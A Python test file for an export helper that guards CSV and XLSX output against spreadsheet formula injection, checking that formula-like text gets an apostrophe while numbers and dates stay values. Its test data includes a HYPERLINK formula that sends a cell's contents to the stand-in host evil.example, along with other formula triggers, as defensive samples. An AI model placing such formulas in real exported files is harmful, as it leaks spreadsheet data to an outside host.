"""One export helper for every CSV and XLSX (issue 12 point 12, OWASP CSV injection): text that a
spreadsheet would run as a formula is neutralised, numbers (negative money too) stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import Column, Table, csv_lines, csv_write, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
TRIGGERS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("value", TRIGGERS)
def test_csv_text_starting_with_a_formula_trigger_gets_a_leading_apostrophe(value):
    rows = read_csv("".join(csv_lines(["subject"], [[value]])))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", ["张伟", "a=b", "client 1", "", "'already quoted"])
def test_csv_harmless_text_is_written_as_it_is(value):
    assert read_csv("".join(csv_lines(["subject"], [[value]])))[1] == [value]


def test_csv_numbers_dates_and_empty_cells_are_written_as_values_not_text():
    at = datetime.datetime(2026, 11, 28, 2, 30, tzinfo=datetime.UTC)
    rows = read_csv(
        "".join(
            csv_lines(
                ["money", "count", "date", "at", "none"],
                [[Decimal("-1234.50"), -3, datetime.date(2026, 1, 2), at, None]],
            )
        )
    )
    # Negative money is not prefixed; an instant is shown in Asia/Shanghai.
    assert rows[1] == ["-1234.50", "-3", "2026-01-02", "2026-11-28 10:30", ""]


def test_csv_lines_start_with_a_bom_for_excel_and_csv_write_without_one():
    assert "".join(csv_lines(["a"], [])).startswith("\ufeffa")
    out = io.StringIO()
    assert csv_write(out, ["a"], [["=1"], ["x"]]) == 2
    assert out.getvalue() == "a\r\n'=1\r\nx\r\n"


def test_xlsx_formula_text_is_a_string_cell_and_money_a_formatted_number():
    table = Table(
        "t",
        "Sheet",
        [Column("Subject"), Column("Amount", "money"), Column("On", "date")],
        [[value, Decimal("-99.50"), datetime.date(2026, 1, 2)] for value in TRIGGERS],
    )
    book = load_workbook(io.BytesIO(xlsx_bytes([table])))
    sheet = book["Sheet"]
    for row, value in enumerate(TRIGGERS, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s"
        # Text as typed (an XML parser without openpyxl's escaping may read a carriage return as
        # a line feed), marked so Excel keeps it text when edited.
        assert cell.value in {value, value.replace("\r", "\n")} and cell.quotePrefix
    amount = sheet.cell(2, 2)
    assert amount.data_type == "n" and amount.value == -99.5
    assert amount.number_format == "¥#,##0.00"
    assert sheet.cell(2, 3).number_format == "yyyy-mm-dd"


def test_xlsx_drops_control_characters_excel_cannot_hold_instead_of_failing():
    table = Table("t", "S", [Column("Subject")], [["bad\x01text"]])
    assert load_workbook(io.BytesIO(xlsx_bytes([table])))["S"]["A2"].value == "badtext"
